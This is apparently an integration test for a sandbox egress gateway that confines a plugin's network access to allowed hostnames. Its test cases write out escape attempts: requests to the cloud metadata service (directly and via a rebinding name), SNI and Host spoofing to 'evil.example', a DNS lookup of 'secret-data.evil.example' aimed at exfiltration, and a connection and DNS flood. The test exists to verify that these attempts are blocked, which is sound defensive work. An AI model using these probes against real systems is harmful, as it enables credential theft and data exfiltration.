import { execFileSync, spawn } from 'node:child_process'
import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { closeSync, mkdirSync, openSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { createServer as createHttpServer } from 'node:http'
import { createServer as createHttpsServer } from 'node:https'
import { createServer, type Server } from 'node:net'
import { join } from 'node:path'
import type { Writable } from 'node:stream'
import { decode, encode, type Answer } from 'dns-packet'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { newRunId } from '../../src/base/ids.ts'
import { renderRoutes } from '../../src/plan/nftables.ts'
import { DOOR_STATS, type DoorStats } from '../../src/wire/door.ts'
import { buildDoor, FakeLauncher, remove } from '../egress/door-kit.ts'
import { rule, rules } from '../egress/relay-kit.ts'
import { canRun } from './require.ts'

/** A pretend internet: one address on the host's loopback interface that only this test uses. */
const PEER = '10.213.77.1'
const NETNS = 'cordon-test-door'
const UID = '1881990001'
const CURL = '/usr/bin/curl'
const PYTHON = '/usr/bin/python3'

const run = newRunId()
let files = { dir: '', door: '', helper: '' }
let launcher: FakeLauncher
const servers: Server[] = []
/** What arrived on the receiving side, in order. */
const arrived: string[] = []
const sh = (program: string, ...args: string[]): string => execFileSync(program, args, { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] })
const ip = (...args: string[]): string => sh('/usr/sbin/ip', ...args)

/** A program of the plugin: in the sealed namespace, without privilege. */
async function inside(program: string, ...args: string[]): Promise<{ status: number; out: string; err: string }> {
  const child = spawn('/usr/sbin/ip', ['netns', 'exec', NETNS, '/usr/bin/setpriv', '--reuid', UID, '--regid', UID, '--clear-groups', '--no-new-privs', '--bounding-set=-all', program, ...args], { stdio: ['ignore', 'pipe', 'pipe'] })
  let [out, err] = ['', '']
  child.stdout.on('data', (bytes: Buffer) => { out += bytes.toString() })
  child.stderr.on('data', (bytes: Buffer) => { err += bytes.toString() })
  const [status] = (await once(child, 'close')) as [number]
  return { status, out, err }
}
const curl = (...args: string[]): ReturnType<typeof inside> => inside(CURL, '-gsS', '--max-time', '60', '--cacert', join(files.dir, 'cert.pem'), ...args)
const python = (source: string): ReturnType<typeof inside> => inside(PYTHON, '-c', source)

/** The helper as the launcher starts it: own uid, one capability, script and Node as descriptors. */
async function lend(ports: readonly number[]): Promise<number> {
  const [script, node] = [openSync(files.helper, 'r'), openSync(process.execPath, 'r')]
  const lent = launcher.door.stdio[4]
  if (lent === null || lent === undefined) throw new Error('the door has no second socketpair')
  const caps = ['--inh-caps', '--ambient-caps', '--bounding-set'].map((set) => `${set}=-all,+net_bind_service`)
  const helper = spawn('/usr/sbin/ip', ['netns', 'exec', NETNS, '/usr/bin/setpriv', '--reuid', UID, '--regid', UID, '--clear-groups', '--no-new-privs', ...caps, '/proc/self/fd/4', '-', run, '1', '1', ...ports.map(String)], {
    stdio: [script, 'ignore', 'inherit', lent, node], env: { NODE_CHANNEL_FD: '3', NODE_CHANNEL_SERIALIZATION_MODE: 'json' },
  })
  closeSync(script)
  closeSync(node)
  return ((await once(helper, 'close')) as [number])[0]
}

async function serve(server: Server, port: number): Promise<void> {
  servers.push(server)
  server.listen(port, PEER)
  await once(server, 'listening')
}

const FLOOD = Buffer.alloc(64 * 1024)
function flood(response: Writable): void {
  while (!response.destroyed && response.write(FLOOD)) { /* until it pushes back */ }
  response.once('drain', () => flood(response))
}

function rssMiB(): number {
  return Number(/VmRSS:\s+(\d+) kB/.exec(readFileSync(`/proc/${launcher.door.pid}/status`, 'utf8'))?.[1]) / 1024
}

/** Statistics of the run, once they are so. */
async function until(fits: (totals: DoorStats['totals']) => boolean): Promise<void> {
  for (const end = Date.now() + 100_000; Date.now() < end;) {
    if (fits(DOOR_STATS.parse((await launcher.ask({ type: 'stats', run })).ok).totals)) return
    await new Promise((resolve) => { setTimeout(resolve, 50) })
  }
  throw new Error('the statistics did not come to what was expected')
}

describe.skipIf(!canRun('/usr/sbin/ip', '/usr/bin/setpriv', '/usr/bin/openssl', CURL, PYTHON))('the door of a sealed namespace', () => {
  const resolver = createSocket('udp4')
  beforeAll(async () => {
    files = await buildDoor()
    execFileSync('/bin/chmod', ['755', files.dir])
    ip('netns', 'add', NETNS)
    const file = join(files.dir, 'routes')
    writeFileSync(file, renderRoutes(true))
    ip('-n', NETNS, '-batch', file)
    mkdirSync(`/etc/netns/${NETNS}`, { recursive: true })
    writeFileSync(`/etc/netns/${NETNS}/resolv.conf`, 'nameserver 198.18.0.1\n')
    ip('address', 'replace', `${PEER}/32`, 'dev', 'lo')
    const [key, cert] = [join(files.dir, 'key.pem'), join(files.dir, 'cert.pem')]
    sh('/usr/bin/openssl', 'req', '-x509', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:P-256', '-nodes', '-keyout', key, '-out', cert, '-days', '2', '-subj', '/CN=good.example', '-addext', 'subjectAltName=DNS:good.example,DNS:evil.example')
    await serve(createHttpsServer({ key: readFileSync(key), cert: readFileSync(cert) }, (request, response) => {
      arrived.push(`https ${request.headers.host} ${request.url}`)
      response.end('over tls')
    }), 443)
    await serve(createHttpServer((request, response) => {
      if (request.url === '/flood') return flood(response)
      arrived.push(`http ${request.headers.host} ${request.url}`)
      response.end('in plain')
    }), 80)
    await serve(createServer((socket) => {
      arrived.push('raw')
      socket.end('raw')
    }), 9999)
    resolver.on('message', (message, from) => {
      const query = decode(message)
      const [question] = query.questions ?? []
      const name = question?.name ?? ''
      arrived.push(`dns ${name}`)
      const data = name === 'rebound.example' ? '169.254.169.254' : PEER
      const answers: Answer[] = question?.type === 'A' ? [{ type: 'A', name, ttl: 5, data }] : []
      resolver.send(encode({ type: 'response', id: query.id ?? 0, questions: query.questions ?? [], answers }), from.port, from.address)
    })
    resolver.bind(0, '127.0.0.1')
    await once(resolver, 'listening')

    launcher = new FakeLauncher(files)
    await launcher.configure({ resolvers: [`127.0.0.1:${resolver.address().port}`] })
    const open = { private: true }
    const names = ['good.example', 'rebound.example'].flatMap((name, index) => [rule(2 * index + 1, { kind: 'host', name }, [443], open), rule(2 * index + 2, { kind: 'host', name }, [80], open)])
    await launcher.ask({
      type: 'openRun', run, plugin: 'indexnow' as never, rules: rules(...names), ports: [80, 443], ipv6: true, decoys: { names: [], secrets: [] },
      limits: { maxConnections: 256, egressMaxPerDay: null, spent: { day: '2026-01-01', bytes: 0 } },
    })
    expect(await lend([80, 443])).toBe(0)
    expect((await launcher.serving(run)).missing).toEqual([])
  })
  afterAll(async () => {
    await launcher.close()
    resolver.close()
    for (const server of servers) server.close()
    ip('address', 'del', `${PEER}/32`, 'dev', 'lo')
    ip('netns', 'del', NETNS)
    rmSync(`/etc/netns/${NETNS}`, { recursive: true })
    await remove(files.dir)
  })

  test('lets programs that know nothing of it reach an allowed name', async () => {
    arrived.length = 0
    expect(await curl('https://good.example/curl')).toMatchObject({ status: 0, out: 'over tls' })
    expect(await curl('http://good.example/1', 'http://good.example/2')).toMatchObject({ status: 0, out: 'in plainin plain' })
    expect(await python('import urllib.request; print(urllib.request.urlopen("http://good.example/python", timeout=60).read().decode())')).toMatchObject({ out: 'in plain\n' })
    expect(await inside(process.execPath, '-e', 'fetch("http://good.example/node").then((r) => r.text()).then(console.log)')).toMatchObject({ out: 'in plain\n' })
    expect(arrived.filter((one) => one.startsWith('http'))).toEqual(['https good.example /curl', 'http good.example /1', 'http good.example /2', 'http good.example /python', 'http good.example /node'])
    expect(await launcher.event('egress.closed')).toMatchObject({ name: 'good.example', address: PEER, sni: 'good.example', by: 'plugin' })
  })

  test.each<[string, string, () => ReturnType<typeof inside>]>([
    ['name-not-allowed', 'another name', () => curl('https://evil.example/')],
    ['sni-mismatch', 'another name in the TLS hello', () => curl('--connect-to', 'evil.example:443:good.example:443', 'https://evil.example/')],
    ['http-host-other', 'another Host', () => curl('-H', 'Host: evil.example', 'http://good.example/')],
    ['literal-not-allowed', 'the address behind the name', () => curl(`http://${PEER}/`)],
    ['literal-not-allowed', 'the address in its IPv4-mapped spelling', () => curl(`http://[::ffff:${PEER}]/`)],
    ['literal-not-allowed', 'the metadata service', () => curl('http://169.254.169.254/latest/meta-data/')],
    ['address-metadata', 'the metadata service behind an allowed name', () => curl('http://rebound.example/latest/meta-data/')],
    ['loopback-reset', 'its own loopback where only the door listens', () => curl('http://[::1]/')],
    ['loopback-reset', '0.0.0.0', () => curl('http://0.0.0.0/')],
    ['synthetic-unknown', 'an address that stands for nothing', () => curl('http://198.18.200.7/')],
    ['tls-required', 'plain HTTP on 443', () => curl('http://good.example:443/')],
  ])('refuses and records (%s): %s', async (code, _what, attempt) => {
    arrived.length = 0
    expect((await attempt()).status).not.toBe(0)
    const type = code === 'name-not-allowed' ? 'dns.refused' : 'egress.refused'
    await launcher.event(type, (event) => event.code === code)
    expect(arrived.filter((one) => one !== 'dns rebound.example')).toEqual([])
  })

  test('has no way out but its ports: other TCP ports and UDP reach nobody', async () => {
    arrived.length = 0
    expect((await curl(`http://${PEER}:9999/`)).status).toBe(7)
    expect((await curl('http://good.example:9999/')).status).toBe(7)
    expect((await python(`import socket; s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(60); s.connect(("${PEER}",443)); s.send(b"x"); s.recv(9)`)).err).toContain('ConnectionRefusedError')
    expect(arrived).toEqual([])
  })

  test('answers DNS itself, over UDP and TCP, whatever resolver is asked, and forwards nothing', async () => {
    arrived.length = 0
    const ask = (server: string, type: 'DGRAM' | 'STREAM', name: string): ReturnType<typeof inside> => python(`
import socket, struct
q = struct.pack('>HHHHHH', 7, 256, 1, 0, 0, 0) + b''.join(bytes([len(l)]) + l.encode() for l in '${name}'.split('.')) + b'\\0' + struct.pack('>HH', 1, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_${type}); s.settimeout(60); s.connect(('${server}', 53))
s.send((struct.pack('>H', len(q)) if '${type}' == 'STREAM' else b'') + q)
r = s.recv(512)[2 if '${type}' == 'STREAM' else 0:]
print(r[3] & 15, socket.inet_ntoa(r[-4:]) if r[7] else '-')`)
    for (const server of ['198.18.0.1', '8.8.8.8', '1.1.1.1']) {
      for (const type of ['DGRAM', 'STREAM'] as const) {
        expect((await ask(server, type, 'good.example')).out).toMatch(/^0 198\.18\.1\.\d+\n$/)
        expect((await ask(server, type, 'secret-data.evil.example')).out).toBe('3 -\n')
      }
    }
    expect(arrived).toEqual([])
  })

  test('cannot have its ports taken by the plugin', async () => {
    for (const address of ['0.0.0.0', '198.18.0.1', '127.0.0.1']) {
      const { err } = await python(`import socket; s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.setsockopt(socket.SOL_SOCKET, 15, 1); s.bind(("${address}", 443))`)
      expect(err).toMatch(/PermissionError|Address already in use/)
    }
    expect(await curl('https://good.example/still')).toMatchObject({ out: 'over tls' })
  })

  test('holds little for 250 readers that do not read and a flood of random names, and serves on', async () => {
    const before = rssMiB()
    let most = before
    const watch = setInterval(() => { most = Math.max(most, launcher.door.exitCode === null ? rssMiB() : most) }, 20)
    const enough = `${files.dir}/enough`
    // 250 of the 256 places: the control needs one too.
    const hostile = python(`
import socket, struct, os
s = []
for i in range(250):
  c = socket.create_connection(('good.example', 80), 60); c.sendall(b'GET /flood HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n'); s.append(c)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.connect(('198.18.0.1', 53)); u.setblocking(False)
sent = 0
while sent <= 20_000 or not os.path.exists('${enough}'):
  try:
    u.send(struct.pack('>HHHHHH', 7, 256, 1, 0, 0, 0) + b'\\x10' + os.urandom(8).hex().encode() + b'\\x04evil\\x07example\\0' + struct.pack('>HH', 1, 1)); sent += 1
  except OSError: pass
print(sent)`)
    await until(({ open, queries }) => open === 250 && queries > 2000)
    expect(await curl('--resolve', 'good.example:443:198.18.1.0', 'https://good.example/meanwhile')).toMatchObject({ status: 0, out: 'over tls' })
    await new Promise((resolve) => { setTimeout(resolve, 4000) })
    writeFileSync(enough, '')
    const { out } = await hostile
    clearInterval(watch)
    await until(({ open }) => open === 0)
    console.log(`door: ${before.toFixed(0)} MiB before, at most ${most.toFixed(0)} MiB with 250 readers that do not read and ${out.trim()} random names`)
    expect(Number(out)).toBeGreaterThan(20_000) // so many, however long they take
    expect(most).toBeLessThan(before + 160)
  })

  test('ends everything when the run is closed', async () => {
    expect(DOOR_STATS.parse((await launcher.ask({ type: 'stats', run })).ok)).toMatchObject({ serving: true, open: [] })
    await launcher.ask({ type: 'closeRun', run, code: 'stopping' })
    expect((await curl('--connect-to', 'good.example:443:198.18.1.0:443', 'https://good.example/')).status).toBe(7)
  })
})
